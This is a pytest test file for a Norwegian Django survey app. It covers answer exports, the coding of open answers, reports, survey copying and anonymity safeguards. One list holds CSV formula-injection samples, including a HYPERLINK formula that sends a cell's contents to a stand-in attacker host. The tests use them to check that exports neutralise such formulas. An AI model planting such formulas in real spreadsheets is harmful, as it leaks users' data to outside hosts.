"""Exports (CSV, XLSX, PDF), the coding of open answers and the report, copying and comparing."""

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from accounts.tests.factories import ProgrammeLeaderFactory
from core.testing.pdf import assert_printed_with_the_print_stylesheet
from municipalities.tests.factories import MunicipalityGroupFactory
from portfolios.tests.factories import PortfolioFactory
from surveys.exports import answer_table
from surveys.models import Category, Question, Response, Survey
from surveys.services import survey_copy
from surveys.tests.factories import answer, evaluation_survey, invite, made_pdf

pytestmark = pytest.mark.django_db


def _fill(survey, *, anonymous_names=("Åse Rudstad", "Jovnna Ánte Balto", "Kåre Lyngmo")):
    group = MunicipalityGroupFactory(portfolio=survey.portfolio, name="Kárášjohka")
    scale = survey.questions.get(key="forankring")
    text = survey.questions.get(key="mest_nyttig")
    responses = []
    for i, (name, role) in enumerate(
        zip(anonymous_names, ["leader", "resource_teacher", "owner_political"], strict=True)
    ):
        invitation, _ = invite(survey, group=group, role=role, user=None)
        invitation.user.full_name = name
        invitation.user.save(update_fields=["full_name"])
        responses.append(
            answer(invitation, {scale: (str(4 + i % 3), f"Utdyping {i}"), text: f"Dialogkonferansene ga mest {i}"})
        )
    return responses


@pytest.fixture
def leader_client(client):
    client.force_login(ProgrammeLeaderFactory())
    return client


def test_csv_of_an_anonymous_survey_has_no_names_or_groups(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    _fill(survey)
    response = leader_client.get(f"/sporreundersokelse/{survey.pk}/svar.csv")
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[0][:2] == ["nr", "nivå"]
    assert "forankring" in rows[0]
    assert "forankring: utdyping" in rows[0]
    assert len(rows) == 4
    for secret in ("Åse Rudstad", "Kárášjohka", "@example.org"):
        assert secret not in body
    assert sorted(r[rows[0].index("forankring")] for r in rows[1:]) == ["4", "5", "6"]


def test_xlsx_of_a_named_survey_has_names_groups_and_answers(leader_client):
    survey = evaluation_survey(PortfolioFactory(), anonymous=False)
    _fill(survey)
    response = leader_client.get(f"/sporreundersokelse/{survey.pk}/svar.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("nr", "nivå", "navn", "e-post", "kommunegruppe")
    assert {r[2] for r in rows[1:]} == {"Åse Rudstad", "Jovnna Ánte Balto", "Kåre Lyngmo"}
    assert {r[4] for r in rows[1:]} == {"Kárášjohka"}
    assert "Dialogkonferansene ga mest 0" in {c for r in rows for c in r}


def test_coding_an_answer_and_writing_a_finding_shows_them_together_in_the_report(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    _fill(survey)
    category = survey.categories.get(name="Erfaringer")
    open_answer = survey.questions.get(key="mest_nyttig").answers.first()
    url = f"/sporreundersokelse/{survey.pk}/koding/svar/{open_answer.pk}/"
    prefix = f"a{open_answer.pk}"
    assert (
        leader_client.post(url, {f"{prefix}-categories": [category.pk], f"{prefix}-is_quote": "on"}).status_code == 302
    )
    finding = "Dialogkonferansene er en svært hensiktsmessig arena."
    response = leader_client.post(
        f"/sporreundersokelse/{survey.pk}/koding/funn/{category.pk}/", {f"c{category.pk}-finding": finding}
    )
    assert response.status_code == 302
    open_answer.refresh_from_db()
    assert open_answer.is_quote
    assert list(open_answer.categories.all()) == [category]
    html = leader_client.get(f"/sporreundersokelse/{survey.pk}/rapport/").content.decode()
    section = html[html.index("Kategori 5: Erfaringer") :]
    assert finding in section
    assert f"«{open_answer.text}»" in section


def test_the_coding_page_of_an_anonymous_survey_shows_no_names_or_groups(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    _fill(survey)
    html = leader_client.get(f"/sporreundersokelse/{survey.pk}/koding/").content.decode()
    assert "Dialogkonferansene ga mest 0" in html
    assert "Åse Rudstad" not in html
    assert "Kárášjohka" not in html


def test_a_category_from_another_survey_cannot_be_tagged(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    _fill(survey)
    other = Category.objects.create(survey=evaluation_survey(PortfolioFactory()), name="Fremmed")
    open_answer = survey.questions.get(key="mest_nyttig").answers.first()
    leader_client.post(
        f"/sporreundersokelse/{survey.pk}/koding/svar/{open_answer.pk}/", {f"a{open_answer.pk}-categories": [other.pk]}
    )
    assert open_answer.categories.count() == 0


def test_the_report_pdf_has_charts_findings_and_quotes(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    _fill(survey)
    category = survey.categories.get(name="Forankring")
    category.finding = "Kommunegruppas sammensetning er en styrke."
    category.save(update_fields=["finding"])
    quote = survey.questions.get(key="forankring").answers.exclude(text="").first()
    quote.is_quote = True
    quote.save(update_fields=["is_quote"])
    quote.categories.add(category)
    response = made_pdf(leader_client, survey)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(response.content)).pages)
    assert "Kommunegruppas sammensetning er en styrke." in text
    assert quote.text in text
    assert "I hvilken grad har veiledningsarbeidet vært forankret i kommunen?" in text
    # The chart's labels are drawn from the SVG: «1 (33 %)»-style bars are text in the PDF.
    assert "(33 %)" in text
    assert_printed_with_the_print_stylesheet(response.content)


def test_a_copied_survey_keeps_its_questions_keys_and_can_be_compared(leader_client):
    p2 = evaluation_survey(PortfolioFactory(name="Portefølje 2, 2019–20"))
    _fill(p2)
    p4 = survey_copy(survey=p2, portfolio=PortfolioFactory(name="Portefølje 4, 2023–24"))
    assert p4.questions.count() == p2.questions.count()
    copied = p4.questions.get(key="forankring")
    assert copied.copied_from == p2.questions.get(key="forankring")
    assert copied.category.name == "Forankring"
    assert p4.categories.get(name="Forankring").finding == ""
    invitation, _ = invite(p4)
    answer(invitation, {copied: "2"})
    results_html = leader_client.get(f"/sporreundersokelse/{p4.pk}/").content.decode()
    assert "/sporreundersokelse/sammenlign/forankring/" in results_html
    html = leader_client.get("/sporreundersokelse/sammenlign/forankring/").content.decode()
    assert html.index("Portefølje 2, 2019–20") < html.index("Portefølje 4, 2023–24")
    # The evaluation survey is anonymous: one answer is not shown, here as on the results page.
    p4_part = html[html.index("Portefølje 4, 2023–24") :]
    assert "Færre enn 3 har svart; tallene vises ikke i en anonym undersøkelse." in p4_part
    assert '<th scope="row">2</th><td>1</td><td>100 %</td>' not in html
    p4.anonymous = False
    p4.save(update_fields=["anonymous"])
    html = leader_client.get("/sporreundersokelse/sammenlign/forankring/").content.decode()
    assert '<th scope="row">2</th><td>1</td><td>100 %</td>' in html
    assert Survey.objects.count() == 2
    assert Question.objects.filter(key="forankring").count() == 2


def _export_rows(client, survey, extension):
    response = client.get(f"/sporreundersokelse/{survey.pk}/svar.{extension}")
    assert response.status_code == 200
    if extension == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    return load_workbook(io.BytesIO(response.content)).active


def test_the_anonymous_export_merges_levels_with_fewer_than_3_respondents(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    text = survey.questions.get(key="mest_nyttig")
    roles = ["leader"] * 3 + ["resource_teacher"] * 3 + ["owner_political", "coordinator", "coordinator"]
    for i, role in enumerate(roles):
        invitation, _ = invite(survey, role=role)
        answer(invitation, {text: f"Svar {i}"})
    rows = _export_rows(leader_client, survey, "csv")
    levels = sorted(r[1] for r in rows[1:])
    assert levels == ["Annet (færre enn 3)"] * 3 + ["Leder"] * 3 + ["Lærer"] * 3


def test_a_lone_small_level_is_merged_with_the_next_smallest(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    text = survey.questions.get(key="mest_nyttig")
    for i, role in enumerate(["leader"] * 3 + ["resource_teacher"] * 4 + ["coordinator"]):
        invitation, _ = invite(survey, role=role)
        answer(invitation, {text: f"Svar {i}"})
    levels = sorted(r[1] for r in _export_rows(leader_client, survey, "csv")[1:])
    assert levels == ["Annet (færre enn 3)"] * 4 + ["Lærer"] * 4


def test_the_anonymous_export_is_ordered_by_a_keyed_hash_not_a_public_seed(leader_client, settings):
    import hashlib
    import hmac

    survey = evaluation_survey(PortfolioFactory())
    text = survey.questions.get(key="mest_nyttig")
    by_text = {}
    for i in range(8):
        invitation, _ = invite(survey)
        by_text[f"Svar {i}"] = answer(invitation, {text: f"Svar {i}"}).pk

    def order(key):
        def digest(pk):
            return hmac.new(key.encode(), f"surveys.export:{survey.pk}:{pk}".encode(), hashlib.sha256).digest()

        return sorted(by_text.values(), key=digest)

    def exported():
        header, rows = answer_table(survey)
        return [by_text[r[header.index("mest_nyttig")]] for r in rows]

    csv_rows = _export_rows(leader_client, survey, "csv")
    assert [by_text[r[csv_rows[0].index("mest_nyttig")]] for r in csv_rows[1:]] == order(settings.SECRET_KEY)
    assert exported() == exported()  # the same file from one download to the next
    # Another key, another order: only the secret key gives it.
    settings.SECRET_KEY = "en-annen-hemmelig-nokkel-" + "x" * 40
    assert exported() == order(settings.SECRET_KEY)
    assert exported() != order("django-insecure-" + "y" * 40)


FORMULAS = ['=HYPERLINK("https://angriper.example/?d="&A1;"Klikk her")', "+1+2", "-2+3", "@SUM(1;2)"]


def _fill_with_formulas(survey):
    text = survey.questions.get(key="mest_nyttig")
    for formula in FORMULAS:
        invitation, _ = invite(survey)
        answer(invitation, {text: formula})
    return text


def test_the_csv_export_neutralises_formulas(leader_client):
    survey = evaluation_survey(PortfolioFactory(), anonymous=False)
    _fill_with_formulas(survey)
    rows = _export_rows(leader_client, survey, "csv")
    column = rows[0].index("mest_nyttig")
    assert sorted(r[column] for r in rows[1:]) == sorted("'" + f for f in FORMULAS)


def test_the_xlsx_export_stores_formulas_as_text(leader_client):
    survey = evaluation_survey(PortfolioFactory(), anonymous=False)
    _fill_with_formulas(survey)
    sheet = _export_rows(leader_client, survey, "xlsx")
    header = [c.value for c in sheet[1]]
    column = header.index("mest_nyttig") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, 2 + len(FORMULAS))]
    assert sorted(c.value for c in cells) == sorted(FORMULAS)
    assert {c.data_type for c in cells} == {"s"}


def test_the_report_and_its_pdf_hide_a_level_that_could_be_worked_out(leader_client):
    survey = evaluation_survey(PortfolioFactory())
    scale = survey.questions.get(key="forankring")
    for role, value in [("leader", "5"), ("leader", "5"), ("leader", "6"), ("coordinator", "1")]:
        invitation, _ = invite(survey, role=role)
        answer(invitation, {scale: value})
    html = leader_client.get(f"/sporreundersokelse/{survey.pk}/rapport/").content.decode()
    response = made_pdf(leader_client, survey)
    text = " ".join(" ".join(page.extract_text().split()) for page in PdfReader(io.BytesIO(response.content)).pages)
    for shown in (html, text):
        assert "skjult" in shown
        assert "færre enn 3" in shown
        # The coordinator's column would read «1 (100 %)», the leaders' «5 2 (67 %)».
        assert "(100 %)" not in shown
        assert "(67 %)" not in shown
        assert "(50 %)" in shown  # the total is still shown: 5 twice out of 4


def test_the_exports_give_the_submission_time_in_oslo_time(leader_client):
    survey = evaluation_survey(PortfolioFactory(), anonymous=False)
    [response, *_] = _fill(survey)
    # 10:59 UTC on a winter day is 11:59 in Oslo (CET, UTC+1).
    Response.objects.filter(pk=response.pk).update(submitted_at=datetime(2026, 1, 15, 10, 59, tzinfo=UTC))
    rows = _export_rows(leader_client, survey, "csv")
    column = rows[0].index("sendt inn")
    assert "2026-01-15 11:59" in {r[column] for r in rows[1:]}
    assert "2026-01-15 10:59" not in {r[column] for r in rows[1:]}
    sheet = _export_rows(leader_client, survey, "xlsx")
    values = list(sheet.iter_rows(values_only=True))
    assert "2026-01-15 11:59" in {r[values[0].index("sendt inn")] for r in values[1:]}
